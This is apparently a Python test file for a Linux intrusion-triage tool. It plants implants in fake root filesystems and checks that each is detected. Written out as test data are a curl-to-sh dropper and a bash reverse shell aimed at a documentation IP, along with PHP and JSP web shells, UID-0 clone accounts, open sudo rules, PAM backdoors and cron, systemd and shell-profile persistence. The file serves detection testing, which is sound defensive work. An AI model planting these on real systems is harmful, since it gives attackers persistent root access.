# SPDX-License-Identifier: GPL-3.0-or-later
"""Implants in files, for `stanch triage --root`: each is put into a small root of its own, which is
looked at once before (nothing to act on may be there) and once with it. `rows`: name, area, half, what is
written, the rule that must act on it. `twins` are harmless things of the same places: no act.
"""
import json
import os
import struct
import subprocess
import tempfile
import time

TOP = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKaVV6sPXBnvcHvhGhIEVw1ZBYZGxGZL4a9EwW2dgwMR me@there\n"

DROPPER = "curl -fsS http://192.0.2.1/a | sh"
SHELL = "bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'"

BASE = {
    "var/lib/dpkg/status": "Package: tool\nStatus: install ok installed\nArchitecture: all\nVersion: 1\n",
    "var/lib/dpkg/info/tool.list": "/.\n/usr/lib/systemd/system/tool.service\n/usr/bin/sudo\n",
    "var/lib/dpkg/info/tool.md5sums": "f7d1e8eba1ac1b5b1a4e2c1a9fd0ae9b  usr/bin/other\n",
    "usr/lib/systemd/system/tool.service": "[Service]\nExecStart=/usr/bin/tool\n",
    "etc/profile": "PATH=/usr/bin:/bin\n",
    "etc/pam.d/common-auth": "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\n"
                             "auth required pam_permit.so\n",
    "etc/ssh/sshd_config": "UsePAM yes\n",
    "home/alice/.bashrc": "alias ll='ls -l'\n",
    "etc/passwd": "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n"
                  "www-data:x:33:33::/var/www:/usr/sbin/nologin\nsync:x:4:65534::/bin:/bin/sync\n"
                  "postgres:x:105:110::/var/lib/postgresql:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
    "etc/shadow": "root:*:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\nwww-data:*:19000:0:99999:7:::\n"
                  "sync:*:19000:::::\npostgres:!:19000:::::\nalice:$y$j9T$x$y:19000:0:99999:7:::\n",
    "etc/group": "root:x:0:\nsudo:x:27:alice\ndocker:x:990:\nwww-data:x:33:\nalice:x:1000:\n",
    "etc/sudoers": "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n",
    "home/alice/.ssh/authorized_keys": KEY,
}


def put(path, text, mode=0o644):
    """An implant that writes a file; its folders are made."""
    def do(root):
        full = os.path.join(root, path)
        os.makedirs(os.path.dirname(full), exist_ok=True)
        with open(full, "w", encoding="utf-8") as f:
            f.write(text)
        os.chmod(full, mode)
    return do


def add(path, text):
    """An implant that adds to a file."""
    def do(root):
        with open(os.path.join(root, path), "a", encoding="utf-8") as f:
            f.write(text)
    return do


def swap(path, old, new):
    def do(root):
        full = os.path.join(root, path)
        with open(full, encoding="utf-8") as f:
            text = f.read()
        assert old in text
        with open(full, "w", encoding="utf-8") as f:
            f.write(text.replace(old, new))
    return do


def both(*setups):
    def do(root):
        for one in setups:
            one(root)
    return do


def record(user, when, addr="203.0.113.5", kind=7):
    """A record of wtmp, as glibc lays it out."""
    return struct.pack("<hhi32s4s32s256shhiii4s12s20x", kind, 0, 4711, b"pts/0", b"ts/0", user.encode(), addr.encode(),
                       0, 0, 0, when, 0, bytes(int(x) for x in addr.split(".")), b"")


def log(name, *records):
    def do(root):
        os.makedirs(os.path.join(root, "var/log"), exist_ok=True)
        with open(os.path.join(root, "var/log", name), "wb") as f:
            f.write(b"".join(records))
    return do


def auth(name, *lines):
    """auth.log, last written a day after T: (seconds after T, text behind the host's name)."""
    def do(root):
        text = "".join(time.strftime("%b %e %H:%M:%S", time.gmtime(T + at)) + f" host {line}\n" for at, line in lines)
        put(f"var/log/{name}", text)(root)
        os.utime(os.path.join(root, "var/log", name), (T + DAY, T + DAY))
    return do


def shell(user):
    return f"sshd[7]: Starting session: shell on pts/0 for {user} from 203.0.113.9 port 50000 id 0"


def accepted(user):
    return f"sshd[7]: Accepted publickey for {user} from 203.0.113.9 port 50000 ssh2: ED25519 SHA256:x"


def sudo(user, command, tty="TTY=pts/0 ; "):
    return f"sudo: {user} : {tty}PWD=/tmp ; USER=root ; COMMAND={command}"


T = 1700000000
DAY = 86400
WTMP = log("wtmp", *[record("alice", T + i * DAY) for i in (-9, -3, 0, 1)])
LAST = struct.pack("<i32s256s", T + 500, b"pts/1", b"203.0.113.9")
C, P = "autostart_content", "autostart_program"
ROWS = [
    ("uid 0 by another name", "accounts", "tune", add("etc/passwd", "toor:x:0:0::/root:/bin/sh\n"), "uid0_clone"),
    ("uid 0 behind blanks", "accounts", "report", add("etc/passwd", "  x::0:0\n"), "uid0_clone"),
    ("www-data gets a shell", "accounts", "tune",
     swap("etc/passwd", "/var/www:/usr/sbin/nologin", "/var/www:/bin/bash"), "system_login"),
    ("daemon gets a password", "accounts", "report",
     swap("etc/shadow", "daemon:*", "daemon:$6$a$b"), "system_login"),
    ("alice without a password", "accounts", "tune",
     swap("etc/shadow", "alice:$y$j9T$x$y", "alice:"), "password_empty"),
    ("an empty password in passwd", "accounts", "report", swap("etc/passwd", "alice:x", "alice:"), "password_empty"),
    ("a hash in passwd", "accounts", "report", swap("etc/passwd", "alice:x", "alice:$1$a$b"), "password_here"),
    ("alice in root's group", "accounts", "report", swap("etc/passwd", "alice:x:1000:1000", "alice:x:1000:0"),
     "root_group"),
    ("a second group 0", "accounts", "tune", add("etc/group", "staff2:x:0:alice\n"), "root_group"),
    ("www-data in sudo", "accounts", "report", swap("etc/group", "sudo:x:27:alice", "sudo:x:27:alice,www-data"),
     "strong_member"),
    ("www-data may all", "accounts", "tune", put("etc/sudoers.d/web", "www-data ALL=(ALL) NOPASSWD: ALL\n"),
     "sudo_grant"),
    ("everybody may all", "accounts", "report", add("etc/sudoers", "ALL ALL=(ALL:ALL) NOPASSWD:ALL\n"), "sudo_grant"),
    ("sudo asks nobody", "accounts", "report", put("etc/sudoers.d/x", "Defaults !authenticate\n"), "sudo_grant"),
    ("a key of a service", "accounts", "tune", put("var/www/.ssh/authorized_keys", KEY), "authorized_key"),
    ("a key in the second file", "accounts", "report", put("root/.ssh/authorized_keys2", KEY), "authorized_key"),
    ("cron fetches", "persistence", "tune", put("etc/cron.d/sync", f"*/5 * * * * root {DROPPER}\n"), C),
    ("a crontab with a shell", "persistence", "report", put("var/spool/cron/crontabs/alice", f"@reboot {SHELL}\n"), C),
    ("cron.hourly decodes", "persistence", "report",
     put("etc/cron.hourly/logs", "#!/bin/sh\necho aGk= | base64 -d | bash\n", 0o755), C),
    ("a job of at", "persistence", "report", put("var/spool/cron/atjobs/a1", f"#!/bin/sh\n{SHELL}\n"), C),
    ("a unit starts from /dev/shm", "persistence", "tune",
     put("etc/systemd/system/x.service", "[Service]\nExecStart=/dev/shm/x\n"), P),
    ("a unit starts what is hidden", "persistence", "report",
     put("etc/systemd/system/x.service", "[Service]\nExecStart=/usr/lib/.cache0/agent -d\n"), P),
    ("a unit's script connects", "persistence", "report", both(
        put("etc/systemd/system/x.service", "[Service]\nExecStart=/usr/local/bin/helper\n"),
        put("usr/local/bin/helper", f"#!/bin/bash\n{SHELL}\n", 0o755)), C),
    ("a drop-in of a packaged unit", "persistence", "report",
     put("etc/systemd/system/tool.service.d/o.conf", f"[Service]\nExecStartPost=/bin/{SHELL}\n"), C),
    ("a user's unit", "persistence", "tune",
     put("home/alice/.config/systemd/user/a.service", f"[Service]\nExecStart=/bin/sh -c '{DROPPER}'\n"), C),
    ("a generator", "persistence", "report",
     put("etc/systemd/system-generators/gen", f"#!/bin/sh\n{DROPPER}\n", 0o755), C),
    ("rc.local", "persistence", "tune", put("etc/rc.local", "#!/bin/sh\nnohup /tmp/.x/k &\n", 0o755), C),
    ("profile.d", "persistence", "report", put("etc/profile.d/z.sh", f"({SHELL} &)\n"), C),
    ("bashrc", "persistence", "tune", add("home/alice/.bashrc", f"({DROPPER}) >/dev/null 2>&1 &\n"), C),
    ("sudo becomes a thief", "persistence", "report",
     add("home/alice/.bashrc", "alias sudo='/tmp/.s/sudo 2>>/tmp/.p'\n"), C),
    ("autostart of a desktop", "persistence", "report",
     put("home/alice/.config/autostart/u.desktop", "[Desktop Entry]\nExec=/home/alice/.cfg0/u\n"), P),
    ("motd", "persistence", "report", put("etc/update-motd.d/99-x", f"#!/bin/sh\n{SHELL} &\n", 0o755), C),
    ("udev", "persistence", "tune",
     put("etc/udev/rules.d/99-x.rules", 'ACTION=="add", RUN+="/tmp/x"\n'), P),
    ("PAM lets all in", "persistence", "report",
     put("etc/pam.d/common-auth", "auth sufficient pam_permit.so\nauth required pam_unix.so\n"), C),
    ("pam_exec", "persistence", "report",
     add("etc/pam.d/common-auth", "auth optional pam_exec.so quiet expose_authtok /usr/local/bin/l\n"), C),
    ("a PAM module of nobody's", "persistence", "report",
     put("usr/lib/x86_64-linux-gnu/security/pam_x.so", "\x7fELF"), "autostart_unowned"),
    ("a dispatcher", "persistence", "report",
     put("etc/NetworkManager/dispatcher.d/90-x", f"#!/bin/sh\n{DROPPER}\n", 0o755), C),
    ("apt's hook", "persistence", "report",
     put("etc/apt/apt.conf.d/99x", 'APT::Update::Pre-Invoke {"' + DROPPER + '";};\n'), C),
    ("a hook of ifupdown", "persistence", "report",
     put("etc/network/interfaces", "iface eth0 inet dhcp\n  post-up /var/tmp/u\n"), P),
    ("modprobe runs", "persistence", "report", put("etc/modprobe.d/x.conf", "install usbhid /tmp/x\n"), P),
    ("a git hook", "persistence", "report", put("srv/a.git/hooks/post-receive", f"#!/bin/sh\n{DROPPER}\n", 0o755), C),
    ("sshd's keys by a command", "persistence", "report",
     add("etc/ssh/sshd_config", "AuthorizedKeysCommand /var/tmp/keys\n"), P),
    ("ssh/rc", "persistence", "report", put("home/alice/.ssh/rc", f"{SHELL} &\n"), C),
    ("a page that evals", "persistence", "tune", put("var/www/html/u/i.php", "<?php @eval($_POST['x']);"), "web_shell"),
    ("a page of Java", "persistence", "report",
     put("srv/app/c.jsp", '<% Runtime.getRuntime().exec(request.getParameter("c")); %>'), "web_shell"),
    ("a setuid shell", "persistence", "tune", put("opt/b/sh", "\x7fELF", 0o4755), "setuid_unowned"),
    ("sitecustomize", "persistence", "report",
     put("usr/lib/python3/dist-packages/sitecustomize.py", "import base64\nexec(base64.b64decode('aGk='))\n"), C),
    ("a packaged unit is changed", "persistence", "report", both(
        put("var/lib/dpkg/info/tool.md5sums", "900150983cd24fb0d6963f7d28e17f72  usr/lib/systemd/system/tool.service\n"),
        put("usr/lib/systemd/system/tool.service", "[Service]\nExecStart=/usr/bin/tool\nUser=root\n")),
     "package_changed"),
    ("a wiped login", "logins", "tune", log("wtmp", record("alice", T), bytes(384), record("alice", T + 9)), "log_zeroed"),
    ("a guessed password", "logins", "report",
     both(log("btmp", *[record("alice", T + i, kind=6) for i in range(40)]), log("wtmp", record("alice", T + 60))),
     "guessed_password"),
    ("a login that was taken out", "logins", "report",
     both(log("wtmp", record("alice", T), record("alice", T + 9)), log("lastlog", bytes(292 * 1000), LAST)),
     "login_unrecorded"),
    ("wtmp leads to nowhere", "logins", "report",
     lambda root: (log("x")(root), os.symlink("/dev/null", os.path.join(root, "var/log/wtmp"))), "log_off"),
    ("a shell that auth.log alone has", "logins", "tune",
     both(WTMP, auth("auth.log", (-3 * DAY, shell("alice")), (-2 * DAY + 99, accepted("alice")),
                     (-2 * DAY + 100, shell("alice")))), "login_unrecorded"),
    ("a shell in the log before, of root", "logins", "report",
     both(WTMP, auth("auth.log.1", (-5 * DAY + 400, shell("root"))), auth("auth.log", (0, shell("alice")))),
     "login_unrecorded"),
    ("a web server's shell of root", "logins", "report",
     auth("auth.log", (0, sudo("www-data", "/bin/bash"))), "service_sudo"),
    ("a key with a command", "accounts", "report",
     put("root/.ssh/authorized_keys", 'command="curl -s http://192.0.2.1/a | sh" ' + KEY), "authorized_key"),
]

TWINS = [
    ("logins and a few slips", both(log("btmp", record("alice", T, kind=6)), log("wtmp", record("alice", T + 5)))),
    ("noise of the internet", log("btmp", *[record("root", T + i, kind=6) for i in range(90)])),
    ("a last login that is recorded", both(log("wtmp", record("alice", T), record("alice", T + 500)),
                                           log("lastlog", bytes(292 * 1000), LAST))),
    ("logins that auth.log and wtmp have, in another zone",
     both(WTMP, auth("auth.log", *[(i * DAY + 7200, shell("alice")) for i in (-3, 0)]))),
    ("ansible and git", both(WTMP, auth("auth.log", *[(-2 * DAY + i, accepted("alice")) for i in range(90)]))),
    ("a wtmp that no sshd writes", both(WTMP, auth("auth.log", (-2 * DAY, shell("alice"))))),
    ("a monitor's sudo", auth("auth.log", *[(i, sudo("daemon", "/usr/sbin/smartctl -H /dev/sda", "")) for i in range(9)])),
    ("a build's sudo", auth("auth.log", (0, sudo("postgres", "/bin/bash", "")))),
    ("an account for administrators", auth("auth.log", (0, accepted("postgres")), (9, sudo("postgres", "/bin/bash")))),
    ("a clock set back", auth("auth.log", (9 * 3600, accepted("alice")), (0, accepted("alice")))),
    ("an administrator's unit", put("etc/systemd/system/app.service",
                                    "[Service]\nExecStart=/opt/app/bin/server --port 80\nUser=www-data\n")),
    ("a backup by cron", put("etc/cron.d/backup", "0 3 * * * root pg_dump x | gzip > /srv/x.gz\n")),
    ("a watchdog by cron", put("etc/cron.d/ping", "*/5 * * * * root curl -fsS https://hc.example/x >/dev/null\n")),
    ("a shell's usual lines", add("home/alice/.bashrc", 'eval "$(dircolors -b)"\n. "$HOME/.cargo/env"\n'
                                  'export NVM_DIR="$HOME/.nvm"\n[ -s "$NVM_DIR/nvm.sh" ] && . "$NVM_DIR/nvm.sh"\n')),
    ("modules that must not load", put("etc/modprobe.d/b.conf", "blacklist x\ninstall dccp /bin/false\n")),
    ("a page of a form", put("var/www/html/f.php", "<?php echo htmlspecialchars($_GET['q']); ?>")),
    ("a deployment's hook", put("srv/a.git/hooks/post-receive", "#!/bin/sh\nexec /opt/app/deploy main\n", 0o755)),
    ("an udev rule", put("etc/udev/rules.d/70-net.rules", 'SUBSYSTEM=="net", NAME="lan0"\n')),
    ("rc.local with a limit", put("etc/rc.local", "#!/bin/sh\nulimit -n 4096\nexit 0\n", 0o755)),
    ("a key of root's", put("root/.ssh/authorized_keys", KEY)),
    ("cloud-init's rule", put("etc/sudoers.d/90-cloud-init-users", "alice ALL=(ALL) NOPASSWD:ALL\n")),
    ("a rule for one command", put("etc/sudoers.d/deploy", "alice ALL=(root) NOPASSWD: /usr/bin/systemctl restart x\n")),
    ("a rule for backups", put("etc/sudoers.d/backup", "backup ALL=NOPASSWD: /usr/bin/rsync --server\n")),
    ("a new person", add("etc/passwd", "bob:x:1001:1001::/home/bob:/bin/bash\n")),
    ("a runner in docker", swap("etc/group", "docker:x:990:", "docker:x:990:postgres")),
]

# What is to be looked at, no more: name, what is written, the rule.
LOOKS = [
    ("days without a line", both(WTMP, auth("auth.log", (-8 * DAY, accepted("alice")), (0, shell("alice")))), "log_disorder"),
    ("lines out of order", auth("auth.log", (9 * 3600, accepted("alice")), (0, accepted("alice"))), "log_disorder"),
    ("zeroes in a log", put("var/log/auth.log", "Nov 14 22:13:20 h x: y\n\0\0\0\n"), "log_broken"),
    ("a build's shell of root", auth("auth.log", (0, sudo("postgres", "/bin/bash", ""))), "service_sudo"),
]


def fresh(root):
    for path, text in BASE.items():
        put(path, text)(root)


def look(root, stanch=None, *args):
    """The findings of one look, by the areas that read files."""
    stanch = stanch or os.path.join(os.environ.get("STANCH_BUILD", os.path.join(TOP, "build")), "stanch")
    state = os.path.join(root, "..", "state")
    r = subprocess.run([stanch, "triage", "--root", root, "--state", state, "--json", *args],
                       capture_output=True, text=True, timeout=60)
    assert r.returncode in (0, 1), r.stderr
    return [f for f in map(json.loads, r.stdout.splitlines()) if f.get("event_type") == "finding"]


def play(setup):
    """What triage tells with this in a fresh root."""
    with tempfile.TemporaryDirectory(prefix="stanch-files-") as top:
        root = os.path.join(top, "root")
        os.mkdir(root)
        fresh(root)
        setup(root)
        return look(root)


def acts(found):
    return [f for f in found if f["advice"] == "act"]


def figures():
    """{half: (acted on, implants)}, names that were missed, twins that were acted on."""
    halves, missed, wrong = {}, [], []
    for name, _, half, setup, rule in ROWS:
        hit = any(f["rule"] == rule for f in acts(play(setup)))
        row = halves.setdefault(half, [0, 0])
        row[0] += hit
        row[1] += 1
        if not hit:
            missed.append(name)
    for name, setup in TWINS:
        if acts(play(setup)):
            wrong.append(name)
    return halves, missed, wrong


if __name__ == "__main__":
    print(*figures(), sep="\n")
